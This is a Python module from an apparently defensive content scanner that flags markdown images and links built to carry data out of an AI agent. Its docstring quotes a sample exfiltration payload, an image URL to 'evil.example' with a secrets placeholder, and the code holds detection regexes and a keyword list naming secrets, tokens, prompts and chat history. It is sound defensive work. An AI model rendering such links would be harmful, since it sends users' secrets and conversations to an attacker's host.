"""Markdown images and links built to carry data out.

An agent that renders `![x](https://evil.example/p?q={secrets})` after filling the placeholder
sends the data the moment the image loads, with no click. So: an image or link whose URL holds a
placeholder to fill, or a long query string, to a host that is not on the allowlist (badge and
code-hosting hosts by default; `[content] image_hosts`).
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from urllib.parse import parse_qsl, urlsplit

from bastion.content.model import Severity
from bastion.rules.regexes import LazyRegex

_IMAGE = LazyRegex(
    r"!\[[^\]\n]{0,500}\]\(\s*<?(https?://[^)\s>]+)"
    r"|(?i:<img\b[^>]{0,1000}?\bsrc\s*=\s*[\"']?)(https?://[^\"'\s>]+)"
)
_LINK = LazyRegex(
    r"(?:^|[^!\]])\[[^\]\n]{0,500}\]\(\s*<?(https?://[^)\s>]+)"
    r"|(?m:^)[ \t]{0,3}\[[^\]\n]{1,200}\]:\s*<?(https?://\S+)"
)
_PLACEHOLDER = LazyRegex(
    r"\{\{?[^{}\n]{0,80}\}\}?|\$\{?[A-Za-z_][A-Za-z0-9_]*|<[A-Za-z_ ]{1,40}>|\[[A-Z_ ]{3,40}\]|"
    r"(?i:%7B|%24%7B|%3C[a-z_]{1,40}%3E)"
)
_DATA_WORDS = LazyRegex(
    r"(?i)secret|token|key|passw|credential|conversation|history|chat|context|env|session|"
    r"cookie|data|info|summary|prompt|memory"
)
LONG_QUERY = 120
LONG_VALUE = 60


@dataclass(frozen=True)
class LinkHit:
    start: int
    end: int
    url: str
    severity: Severity
    rule_id: str


def host_allowed(host: str, allowed: Iterable[str]) -> bool:
    host = host.lower().rstrip(".")
    return any(host == a or host.endswith("." + a) for a in allowed)


def _judge(url: str, image: bool, allowed: Iterable[str]) -> tuple[Severity, str] | None:
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    host = parts.hostname or ""
    if not host or host_allowed(host, allowed):
        return None
    tail = parts.query + "#" + parts.fragment
    placeholder = _PLACEHOLDER.search(tail)
    if placeholder is None:
        found = _PLACEHOLDER.search(parts.path)
        # A template variable in a path is ordinary ({version}); one named for data is not.
        if found is not None and _DATA_WORDS.search(found.group()):
            placeholder = found
    if placeholder is not None:
        return (
            (Severity.HIGH, "link.image-placeholder")
            if image
            else (Severity.MEDIUM, "link.placeholder")
        )
    values = [v for _, v in parse_qsl(parts.query, keep_blank_values=True)]
    long_value = any(len(v) >= LONG_VALUE for v in values)
    if image and (len(parts.query) >= LONG_QUERY or long_value):
        return Severity.MEDIUM, "link.image-long-query"
    if long_value:
        return Severity.LOW, "link.long-query"
    return None


def find(text: str, allowed: Iterable[str]) -> Iterator[LinkHit]:
    allowed = tuple(allowed)
    for regex, image in ((_IMAGE, True), (_LINK, False)):
        for m in regex.finditer(text):
            group = 1 if m.group(1) is not None else 2
            url = m.group(group)
            judged = _judge(url, image, allowed)
            if judged is not None:
                yield LinkHit(m.start(), m.end(), url, judged[0], judged[1])
